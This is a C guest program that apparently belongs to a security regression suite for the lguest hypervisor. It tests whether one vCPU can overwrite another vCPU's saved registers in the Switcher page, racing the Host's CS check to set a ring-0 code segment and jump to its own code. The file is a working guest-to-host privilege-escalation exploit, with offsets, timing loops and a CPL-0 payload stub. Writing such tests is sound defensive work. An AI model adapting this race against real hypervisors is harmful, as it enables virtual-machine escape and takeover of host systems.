/* attack-regs: one vCPU of an SMP guest goes after another vCPU's Switcher regs page (issue 10, defect 1).
 * Run with `lguest-ts run attack-regs --cpus 2 --cmdline dir=1to0` (vCPU 1 attacks vCPU 0, the default)
 * or `dir=0to1` (vCPU 0 attacks vCPU 1).
 *
 * Every vCPU's saved registers (struct lguest_regs) live at the end of its regs page in the Switcher
 * region: vCPU n's regs page at SWITCHER_ADDR + (1 + 2n) pages. The Host checks the saved CS and EFLAGS
 * before each entry, and then the Switcher's return path IRETs with whatever is in that page. If another
 * vCPU can write there, it can change CS to the Switcher's own ring-0 code segment and EIP to code of its
 * choosing after the check and before the IRET: the victim then runs guest code at CPL 0.
 *
 * The victim makes hypercalls in a loop (each one a trip through the Host and the Switcher). The attacker
 * first writes one word of the victim's regs page (the saved ESI, harmless by itself); a Host that maps
 * each vCPU's own Switcher pages only makes that write fault, and the guest ends on it:
 *   dir=1to0: the secondary's trap dispatch shuts down with
 *     "vCPU 1: unexpected trap 14 (page fault) at eip ..., error .., cr2 <vCPU 0's regs + 16>"
 *   dir=0to1: vCPU 0's page-fault handler prints and shuts down with
 *     "attack-regs: vCPU 0's write to vCPU 1's regs page faulted (cr2 <...>)"
 * If the write went through, the attacker says so on the console (dir=0to1) and then, for up to
 * ATTEMPTS entries of the victim, waits until the victim is in the Host (trapnum = 256, which the Host
 * stores just before its check), waits a little longer (a different delay each time) and writes
 * CS = LGUEST_CS (ring 0) and EIP = escaped(). Code that reaches escaped() reads CR3 (a ring-0-only act)
 * and publishes it; the attacker then shuts down with "attack-regs: ESCAPED: vCPU n ran at CPL 0 (CR3
 * ...)". A Host that kills the victim for a bad CS meanwhile ends the run with its own reason; when all
 * attempts are spent the guest shuts down with "attack-regs: no escape in N attempts". Either way a Host
 * that lets one vCPU write another's regs page is caught by the first write not faulting. */
#include "kernel.h"

#define ATTEMPTS       20000
#define HOST_TRAPNUM   256          /* what the Host writes into trapnum before it checks and enters */
#define LGUEST_CS_SEL  (GDT_ENTRY_LGUEST_CS << 3)
#define REGS_OFF       LGUEST_REGS_PAGE_OFFSET
#define OFF_ESI        16
#define OFF_TRAPNUM    44
#define OFF_EIP        52
#define OFF_CS         56

volatile u32 escaped_flag, escaped_cr3;   /* global: escaped() names them */
static volatile u32 victim_stop, victim_running;
static u32 victim_id, attacker_id;

static u32 regs_of(u32 id)
{
	return SWITCHER_ADDR + (1 + 2 * id) * PAGE_SIZE + REGS_OFF;
}

/* Where a victim that IRETs to ring 0 lands: with the Switcher's CS, on the regs page's stack. Read CR3
 * (only ring 0 may), publish it, and stop here for good (the Host ends the guest when the attacker
 * shuts down). */
void escaped(void);
asm(".text\n.globl escaped\nescaped:\n"
    "  movl %cr3, %eax\n"
    "  movl %eax, escaped_cr3\n"
    "  movl $1, escaped_flag\n"
    "1: jmp 1b\n");

/* The victim: hypercalls until told to stop (FLUSH_ASYNC with an empty ring does nothing else). */
static void victim_loop(void)
{
	victim_running = 1;
	while (!victim_stop)
		hcall(LHCALL_FLUSH_ASYNC, 0, 0, 0, 0);
}

/* The attacker, on either vCPU. Returns only when every attempt failed. */
static void attack(void (*report)(const char *what))
{
	volatile u32 *r = (volatile u32 *)regs_of(victim_id);
	while (!victim_running)
		;
	r[OFF_ESI / 4] = 0x0BADF00D;            /* the write a Host must refuse */
	report("the write to the other vCPU's regs page went through");
	for (u32 n = 0; n < ATTEMPTS && !escaped_flag; n++) {
		while (r[OFF_TRAPNUM / 4] == HOST_TRAPNUM && !escaped_flag)
			;                           /* wait until the victim is back in the guest ... */
		while (r[OFF_TRAPNUM / 4] != HOST_TRAPNUM && !escaped_flag)
			;                           /* ... then until the Host is about to enter it again */
		for (volatile u32 d = 0; d < (n % 64); d++)
			;
		r[OFF_EIP / 4] = (u32)escaped;
		r[OFF_CS / 4] = LGUEST_CS_SEL;
		for (volatile u32 d = 0; d < 200 && !escaped_flag; d++)
			;
	}
}

static void sec_report(const char *what)
{
	(void)what;                             /* a secondary cannot print; the outcome says it all */
}

static void sec_main(u32 id)
{
	if (attacker_id == id) {
		attack(sec_report);
		if (escaped_flag)
			vcpu_shutdown(id, "attack-regs: ESCAPED: vCPU %u ran at CPL 0 (CR3 %08x)", victim_id, escaped_cr3);
		vcpu_shutdown(id, "attack-regs: no escape in %u attempts", ATTEMPTS);
	}
	victim_loop();
	vcpu_park(id);
}

static void v0_report(const char *what)
{
	printk("attack-regs: %s\n", what);
}

static void v0_fault(struct trap_frame *f)
{
	printk("attack-regs: vCPU 0's write to vCPU %u's regs page faulted (cr2 %08x, error %x)\n", victim_id,
	       read_cr2(), f->errcode);
	hcall_shutdown("attack-regs: vCPU 0's write to another vCPU's regs page faulted", LGUEST_SHUTDOWN_POWEROFF);
}

void guest_main(void)
{
	char buf[16];
	const char *dir = cmdline_value("dir", buf, sizeof(buf));
	int zero_attacks = dir && !strcmp(dir, "0to1");
	attacker_id = zero_attacks ? 0 : 1;
	victim_id = zero_attacks ? 1 : 0;
	printk("attack-regs: vCPU %u writes vCPU %u's Switcher regs page (victim regs at %08x)\n", attacker_id,
	       victim_id, regs_of(victim_id));
	if (vcpu_start(1, sec_main) != VCPU_START_OK)
		panic("attack-regs: needs --cpus 2 or more");
	if (zero_attacks) {
		set_trap_handler(14, v0_fault);
		attack(v0_report);
		victim_stop = 1;
		if (escaped_flag)
			panic("attack-regs: ESCAPED: vCPU %u ran at CPL 0 (CR3 %08x)", victim_id, escaped_cr3);
		panic("attack-regs: no escape in %u attempts", ATTEMPTS);
	}
	victim_loop();
	panic("attack-regs: the victim stopped");
}
